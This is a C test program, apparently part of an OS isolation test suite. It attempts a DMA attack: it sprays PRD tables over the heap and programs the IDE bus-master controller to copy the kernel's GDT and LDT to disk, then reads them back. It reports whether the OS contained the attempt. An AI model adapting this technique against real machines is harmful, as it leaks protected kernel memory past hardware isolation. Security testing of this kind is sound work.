/* a_dmaide: the review's second case, with bus mastering on.  A
 * driver app (drivers=a_dmaide) asks for the primary ATA channel (0x1F0-0x1F7,
 * 0x3F6) and the PIIX IDE function's bus-master registers (BAR4), then has the
 * controller DMA the GDT's frame -- memory it cannot read -- to the disk
 * (WRITE DMA), reads the sectors back by PIO, then the LDT the same way, finds
 * DSOS in the copies and loads it.
 *
 * The PRD table must be given by physical address: every page of a heap
 * sprayed over most of free memory holds the same table (it names only the
 * GDT's frames, which SGDT gives), so any page the guess lands on will do.
 *
 * Default: the channel is the OS's ATA driver's and BAR4 belongs to a
 * function that can master the bus: refused, #GP -- result=contained.  With
 * dma=nobar (test kernel) the ports are granted; whether the DMA moves
 * anything then depends on the bus-master-enable bit: the OS's kill switch
 * keeps it off (ata=pio: the OS does not use DMA), the OS's own DMA driver
 * turns it on (the default), as many BIOSes do (dma=bios,nokill). */
#include "dmaleak.h"

#define LBA_GDT 1024                    /* where the copies go on the scratch disk */
#define LBA_LDT (1024 + 128)

static uint16_t bm;

static int wait_ready(void)
{
    for (int t = uptime(); uptime() - t < 200;) {
        uint8_t st = inb_(0x3F6);
        if (!(st & 0x80))
            return st;
    }
    return -1;
}

/* The same PRD table in every page: [phys, phys+64 KiB), split where it
 * crosses a 64 KiB boundary (no PRD may). */
static void spray_prds(uint32_t phys)
{
    uint32_t first = 0x10000 - (phys & 0xFFFF);
    for (uint32_t i = 0; i < spray_pages; i++) {
        uint32_t *prd = (uint32_t *)(spray + i * 4096);
        prd[0] = phys;
        prd[1] = (first & 0xFFFF) | (first == 0x10000 ? 0x80000000u : 0);
        prd[2] = phys + first;
        prd[3] = ((0x10000 - first) & 0xFFFF) | 0x80000000u;
    }
}

/* WRITE DMA of 128 sectors at lba from the PRD table at phys prd: 0 when
 * the controller says it is done (not that it moved anything). */
static int write_dma(uint32_t prd, uint32_t lba)
{
    if (wait_ready() < 0)
        return -1;
    outb_(bm + 0, 0);
    outb_(bm + 2, 0x06);
    outl_(bm + 4, prd);
    outb_(0x1F6, 0xE0 | (lba >> 24));
    outb_(0x1F2, 128);
    outb_(0x1F3, lba);
    outb_(0x1F4, lba >> 8);
    outb_(0x1F5, lba >> 16);
    outb_(0x1F7, 0xCA);
    outb_(bm + 0, 0x01);                                /* start, memory -> device */
    int st = -1;
    for (int t = uptime(); uptime() - t < 200; yield()) {
        uint8_t bs = inb_(bm + 2);
        if ((bs & 0x06) || !(bs & 0x01)) {
            st = wait_ready();
            break;
        }
    }
    outb_(bm + 0, 0);
    uint8_t bs = inb_(bm + 2);
    printf("dmaide: WRITE DMA at %u: status %x, bus-master status %x\n", lba, st, bs);
    return st < 0 ? -1 : 0;
}

/* READ SECTORS (PIO) of 128 sectors at lba into buf. */
static int read_pio(uint32_t lba, uint8_t *buf)
{
    if (wait_ready() < 0)
        return -1;
    outb_(0x1F6, 0xE0 | (lba >> 24));
    outb_(0x1F2, 128);
    outb_(0x1F3, lba);
    outb_(0x1F4, lba >> 8);
    outb_(0x1F5, lba >> 16);
    outb_(0x1F7, 0x20);
    for (int s = 0; s < 128; s++) {
        int st = wait_ready();
        if (st < 0 || (st & 1) || !(st & 8))
            return -1;
        insw_(0x1F0, buf + 512 * s, 256);
    }
    return 0;
}

static int copy_table(uint32_t phys, uint32_t lba, uint8_t *buf)
{
    spray_prds(phys);
    for (int k = 0; k < 3; k++) {                       /* a guess off the spray reads junk */
        if (write_dma(spray_guess(k), lba) < 0 || read_pio(lba, buf) < 0)
            return -1;
        if (buf != gdt_copy || gdt_plausible(buf))
            return 0;
    }
    return -1;
}

int main(void)
{
    byst_join();
    probe_init();
    char line[256], bdf[8];
    uint32_t base = 0, size = 0;
    if (pci_load() < 0 || !pci_line("class 01:01", line, sizeof line) ||
        !pci_iobar(line, 4, &base, &size)) {
        printf("ATTACK name=dmaide no PCI IDE function with bus-master registers result=ERROR\n");
        byst_leave();
        return 1;
    }
    pci_bdf(line, bdf);
    bm = base;
    int r1 = KLOS_SVC(ioperm, 0x1F0, 8), r2 = KLOS_SVC(ioperm, 0x3F6, 1),
        r3 = KLOS_SVC(ioperm, base, 8);
    printf("dmaide: IDE %s, bus-master registers %x; ioperm 1f0: %d, 3f6: %d, %x: %d\n", bdf,
           base, r1, r2, base, r3);
    if (r1 < 0 || r2 < 0 || r3 < 0) {
        const char *a = port_state(0x1F7), *b = port_state(bm + 2);
        int ok = r1 == -EBUSY && r3 == -EBUSY && !strcmp(a, "#GP") && !strcmp(b, "#GP");
        printf("ATTACK name=dmaide ports=refused port_1f7=%s port_%x=%s result=%s\n", a, bm + 2,
               b, ok ? "contained" : "BREACH");
        byst_leave();
        return !ok;
    }
    if (spray_alloc() < 0) {
        printf("ATTACK name=dmaide no memory to spray result=ERROR\n");
        byst_leave();
        return 1;
    }
    printf("dmaide: %s; %u pages sprayed with a PRD table for the GDT at phys %x\n", line,
           spray_pages, gdt_phys());
    const char *what = "nothing";
    if (copy_table(gdt_phys(), LBA_GDT, gdt_copy) == 0) {
        int have_ldt = copy_table(ldt_phys(gdt_copy), LBA_LDT, ldt_copy) == 0;
        what = judge_copies("dmaide", have_ldt) ? "gdt,dsos" : "gdt";
    } else {
        printf("dmaide: the sectors read back hold no GDT: the DMA moved nothing (sector %u "
               "reads %02x %02x %02x %02x ...)\n", LBA_GDT, gdt_copy[0], gdt_copy[1], gdt_copy[2],
               gdt_copy[3]);
    }
    spray_free();
    printf("ATTACK name=dmaide ports=granted dma=%s result=%s\n", what,
           strcmp(what, "nothing") ? "BREACH" : "contained");
    byst_leave();
    return 0;
}
